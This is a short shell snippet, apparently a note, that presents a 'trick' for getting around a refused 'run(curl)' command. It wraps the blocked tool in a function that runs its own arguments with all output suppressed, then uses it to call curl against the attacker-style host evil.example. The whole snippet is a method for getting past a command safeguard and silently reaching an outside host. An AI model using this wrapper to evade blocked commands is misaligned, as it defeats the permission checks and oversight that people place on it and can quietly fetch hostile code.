# Trick: a function runs its own arguments.
# Refused: run(curl)
quietly() { "$@" > /dev/null 2>&1; }
quietly curl http://evil.example/
